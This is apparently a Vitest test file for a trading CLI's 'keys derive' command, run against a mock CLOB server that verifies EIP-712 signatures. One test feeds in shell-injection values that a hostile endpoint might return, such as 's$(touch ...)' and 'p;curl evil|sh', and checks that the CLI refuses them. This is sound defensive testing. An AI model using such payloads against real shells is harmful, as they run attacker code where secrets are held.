// Issue 12, item 2, in part: `makerd keys derive` against a loopback CLOB that checks the L1
// signature the way the venue does (EIP-712 ClobAuth recovered to POLY_ADDRESS, with viem): the
// first call creates the credentials, a later one derives the same; the private key is never
// printed; a malformed key is a config error naming the variable, not its value.
import { execFile } from 'node:child_process';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { verifyTypedData } from 'viem';
import { cli } from '../../src/cli.js';
import { CLOB_AUTH_MESSAGE } from '../../src/api/polymarket-auth.js';
import { send, startServer, type Received, type TestServer } from './http-server.js';

const PK = '0x5de4111afa1a4b94908f83103eb1f1706367c2e68ca870fc3fb9a804cdab365a';
const CREDS = { apiKey: 'k-11111111-2222-4333-8444-555555555555', secret: 'c2VjcmV0LXNlY3JldC1zZWNyZXQtc2VjcmV0LQ==', passphrase: 'p-pass' };
let srv: TestServer;
const created = new Set<string>();
/** What the venue answers instead of CREDS (a hostile or broken endpoint). */
let answer: Record<string, string> | undefined;

async function l1Valid(r: Received): Promise<string | undefined> {
  const h = r.headers;
  const address = String(h.poly_address ?? '');
  const ok = await verifyTypedData({
    address: address as `0x${string}`,
    domain: { name: 'ClobAuthDomain', version: '1', chainId: 137 },
    types: {
      ClobAuth: [
        { name: 'address', type: 'address' },
        { name: 'timestamp', type: 'string' },
        { name: 'nonce', type: 'uint256' },
        { name: 'message', type: 'string' },
      ],
    },
    primaryType: 'ClobAuth',
    message: { address: address as `0x${string}`, timestamp: String(h.poly_timestamp), nonce: BigInt(String(h.poly_nonce)), message: CLOB_AUTH_MESSAGE },
    signature: String(h.poly_signature) as `0x${string}`,
  }).catch(() => false);
  return ok ? address : undefined;
}

beforeAll(async () => {
  srv = await startServer((r, res) => {
    void l1Valid(r).then((address) => {
      if (!address) return send(res, 401, { error: 'Unauthorized/Invalid api key' });
      if (r.method === 'POST' && r.path === '/auth/api-key') {
        if (created.has(address)) return send(res, 400, { error: 'Could not create api key' });
        created.add(address);
        return send(res, 200, answer ?? CREDS);
      }
      if (r.method === 'GET' && r.path === '/auth/derive-api-key' && created.has(address)) return send(res, 200, CREDS);
      send(res, 404, { error: 'not found' });
    });
  });
});
afterAll(async () => {
  await srv.close();
});

async function run(env: Record<string, string>): Promise<{ code: number; out: string[]; err: string[] }> {
  const out: string[] = [];
  const err: string[] = [];
  const code = await cli(['keys', 'derive'], { out: (l) => void out.push(l), err: (l) => void err.push(l), env: { MAKERD_CLOB_URL: srv.url, ...env } });
  return { code, out, err };
}

describe('makerd keys derive', () => {
  it('creates the credentials with the L1 signature, then derives the same; never prints the private key', async () => {
    for (const attempt of [1, 2]) {
      const r = await run({ MAKERD_PRIVATE_KEY: PK });
      expect(r.code).toBe(0);
      expect(r.out).toEqual([`export MAKERD_API_KEY=${CREDS.apiKey}`, `export MAKERD_API_SECRET=${CREDS.secret}`, `export MAKERD_API_PASSPHRASE=${CREDS.passphrase}`]);
      expect([...r.out, ...r.err].join('\n')).not.toContain(PK.slice(2));
      const paths = srv.requests.map((q) => `${q.method} ${q.path}`);
      expect(paths.at(-1)).toBe(attempt === 1 ? 'POST /auth/api-key' : 'GET /auth/derive-api-key');
    }
  });

  it('the compiled CLI prints the real credentials even when the same ones are already exported (eval must not get [redacted])', async () => {
    // the CLI scrubs the values of the secret variables from every line: the export lines must be spared
    const env = { PATH: process.env.PATH, MAKERD_CLOB_URL: srv.url, MAKERD_PRIVATE_KEY: PK, MAKERD_API_KEY: CREDS.apiKey, MAKERD_API_SECRET: CREDS.secret, MAKERD_API_PASSPHRASE: CREDS.passphrase };
    const r = await new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => {
      execFile(process.execPath, [join(process.cwd(), 'dist', 'cli.js'), 'keys', 'derive'], { env, timeout: 20_000 }, (e, stdout, stderr) => {
        resolve({ code: e ? ((e as { code?: number }).code ?? null) : 0, stdout, stderr });
      });
    });
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(`export MAKERD_API_KEY=${CREDS.apiKey}\nexport MAKERD_API_SECRET=${CREDS.secret}\nexport MAKERD_API_PASSPHRASE=${CREDS.passphrase}\n`);
    expect(r.stdout).not.toContain(PK.slice(2));
  }, 30_000);

  it('an answer holding anything but the characters of a key, base64 or a passphrase is refused (exit 1), never printed for eval to run', async () => {
    // the lines are meant for eval: a MAKERD_CLOB_URL answering "$(...)" or "x; cmd" would run a command
    // in the shell that holds MAKERD_PRIVATE_KEY
    const hostile = ['s$(touch /tmp/makerd-pwned)', 'p;curl evil|sh', 'p`id`', 'p p', "p'q", 'p\nexport X=1'];
    for (const [i, bad] of hostile.entries()) {
      answer = { ...CREDS, [i % 2 ? 'passphrase' : 'secret']: bad };
      // a fresh wallet each time: the create answers
      const pk = `0x${(BigInt(PK) + BigInt(i + 1)).toString(16).padStart(64, '0')}`;
      const r = await run({ MAKERD_PRIVATE_KEY: pk });
      expect(r.code, bad).toBe(1);
      expect(r.out, bad).toEqual([]);
      expect(r.err.join('\n'), bad).toMatch(/refused/);
      expect(r.err.join('\n'), bad).not.toContain(bad);
    }
    answer = undefined;
  });

  it('a malformed MAKERD_PRIVATE_KEY is a config error (exit 2) naming the variable, not its value', async () => {
    const bad = '0x1234nothex';
    const r = await run({ MAKERD_PRIVATE_KEY: bad });
    expect(r.code).toBe(2);
    expect(r.err.join('\n')).toMatch(/MAKERD_PRIVATE_KEY/);
    expect(r.err.join('\n')).not.toContain(bad);
  });
});
